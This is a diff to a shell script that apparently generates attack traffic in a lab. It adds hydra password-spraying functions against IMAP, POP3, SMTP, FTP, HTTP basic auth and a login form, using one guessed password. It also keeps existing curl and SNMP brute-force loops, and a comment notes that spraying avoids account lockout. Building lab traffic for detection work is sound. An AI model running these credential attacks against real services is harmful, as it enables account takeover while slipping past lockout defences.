@@ -36,6 +36,15 @@ tool ssh_users brute-force a3 $SSH; ssh_users() { (cd "$LAB_DIR" && on 45 hydra 
 tool curl_form brute-force a1 $WEB; curl_form() { on 45 bash -c 'while read -r w; do curl -s -o /dev/null -m 5 -d "username=admin&password=$w" http://10.20.0.10/signin; done <"$0"' "$(words 80)"; }
 tool curl_api brute-force a2 $WEB; curl_api() { on 45 bash -c 'while read -r w; do curl -s -o /dev/null -m 5 -H "Content-Type: application/json" -d "{\"email\":\"admin@shop.example\",\"password\":\"$w\"}" http://10.20.0.10/api/login; done <"$0"' "$(words 80)"; }
 tool snmp_guess brute-force a1 $FILES; snmp_guess() { on 45 onesixtyone -w 30 -c "$(words 300)" $FILES; }
+# One password for a list of names: no account is locked by it.
+spray() { local server=$1; shift; (cd "$LAB_DIR" && on 150 hydra -I -w 5 -L "$(words 40)" -p Winter2026 "$@" "$server"); }
+tool spray_imap brute-force a1 $FILES; spray_imap() { spray imap://$FILES -t 4; }
+tool spray_pop3 brute-force a2 $FILES; spray_pop3() { spray pop3://$FILES -t 2; }
+tool spray_smtp brute-force a3 $FILES; spray_smtp() { spray smtp://$FILES -t 4; }
+tool spray_ftp brute-force a1 $FILES; spray_ftp() { spray ftp://$FILES -t 4; }
+tool spray_basic brute-force a2 $WEB; spray_basic() { spray http-get://$WEB/login -t 2; }
+tool spray_form brute-force a3 $WEB; spray_form() { (cd "$LAB_DIR" && on 60 hydra -I -t 2 -L "$(words 40)" -p Winter2026 $WEB http-post-form '/signin:user=^USER^&password=^PASS^:Invalid'); }
+tool spray_slowly brute-force a1 $FILES; spray_slowly() { (cd "$LAB_DIR" && on 200 hydra -I -t 1 -c 4 -w 5 -L "$(words 30)" -p Winter2026 imap://$FILES); }
 tool ssh_many brute-force a5 $SSH 203.0.113.101,203.0.113.102,203.0.113.103,203.0.113.104,203.0.113.105,203.0.113.106,203.0.113.107,203.0.113.108,203.0.113.109,203.0.113.110,203.0.113.111,203.0.113.112,203.0.113.113,203.0.113.114,203.0.113.115,203.0.113.116
 ssh_many() {
     local i
